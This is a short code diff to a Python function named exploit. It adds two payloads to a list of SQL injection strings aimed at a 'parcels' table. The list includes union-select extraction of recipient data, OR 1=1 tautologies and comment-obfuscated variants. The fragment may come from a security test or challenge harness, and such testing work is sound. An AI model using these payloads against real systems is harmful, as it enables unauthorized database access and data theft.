@@ -48,6 +48,8 @@ def exploit(code, vary, payloads=None):
         f"{word}'/**/or/**/true/**/or/**/reference/**/LIKE/**/'",
         f"{word}' UnIoN SeLeCt id, reference, recipient FROM parcels --",
         f"{word}\\' OR 1=1 --",
+        f"{word}'' OR 1=1 --",
+        f"{word}'' OR reference LIKE '",
         "AX-1\n' OR reference LIKE '",
     )
     for reference in attacks if payloads is None else payloads:
